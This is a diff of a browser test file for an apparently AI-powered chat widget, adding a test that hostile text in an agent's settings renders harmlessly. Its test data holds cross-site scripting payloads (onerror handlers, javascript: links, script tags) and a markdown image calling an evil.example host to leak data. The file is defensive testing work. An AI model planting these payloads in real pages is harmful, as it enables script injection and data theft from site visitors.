@@ -89,14 +89,14 @@ function assertHarmless(found, text, allowed = ALLOWED) {
   }
 }
 
-test("hostile answers make no element but the allowed, no dialog and no request", async () => {
+test("h01 h02 hostile answers make no element but the allowed, no dialog and no request", async () => {
   const visitor = await open();
   for (const text of HOSTILE) assertHarmless(await elements(await answerTo(visitor, text)), text);
   assert.equal(visitor.seen.dialogs, 0);
   assert.ok(![...visitor.seen.origins].some((origin) => origin.includes("evil")));
 });
 
-test("hostile knowledge is as harmless as a hostile model", async () => {
+test("h01 hostile knowledge is as harmless as a hostile model", async () => {
   const visitor = await open([
     "Q: What is the velvet handbook?\nA: The velvet handbook is <img src=x onerror=alert(1)> [here](javascript:alert(1)).",
     "Q: What is the copper handbook?\nA: The copper handbook is ![p](https://evil.example/?d=1) <script>alert(1)</script>.",
@@ -111,7 +111,7 @@ test("hostile knowledge is as harmless as a hostile model", async () => {
   assert.ok(![...visitor.seen.origins].some((origin) => origin.includes("evil")));
 });
 
-test("what the visitor writes stays text", async () => {
+test("h01 what the visitor writes stays text", async () => {
   const visitor = await open();
   await scriptAnswer(visitor.page, server, "ok");
   await visitor.ask("**<b>hi</b>** [x](https://a.example)");
@@ -120,7 +120,29 @@ test("what the visitor writes stays text", async () => {
   assert.equal(await own.locator("*").count(), 0);
 });
 
-test("heavy answers are shown without a stall", async () => {
+test("h01 whatever an agent is set up with is shown as harmlessly", async () => {
+  for (const text of HOSTILE.filter((text) => !/[\u0000-\u0008\t]/.test(text))) {
+    const line = text.replace(/\n/g, " ").slice(0, 100);
+    const agent = await server.agent({
+      name: line,
+      greeting: text,
+      appearance: { suggestions: [line], launcher_text: line.slice(0, 40), consent_text: text, lead_rule: "before_first_message", texts: { en: { formTitle: line } } },
+    });
+    const visitor = await visit(browser, site.page(agent));
+    await visitor.page.locator(".cf-launcher").click();
+    const panel = visitor.page.getByRole("dialog");
+    await panel.getByRole("form").waitFor();
+    assertHarmless(await elements(panel.locator(".cf-bubble").first()), text);
+    assertHarmless(await elements(panel.locator(".cf-consent")), text);
+    assert.equal(await panel.locator("img, script, iframe, style, math, h2 *, h3 *").count(), 0, text);
+    assert.equal(await panel.locator("h2").textContent(), line.trim());
+    assert.equal(visitor.seen.dialogs, 0);
+    assert.ok(![...visitor.seen.origins].some((origin) => origin.includes("evil")));
+    await visitor.context.close();
+  }
+});
+
+test("h01 heavy answers are shown without a stall", async () => {
   const visitor = await open();
   for (const text of HEAVY) {
     const startedMs = Date.now();
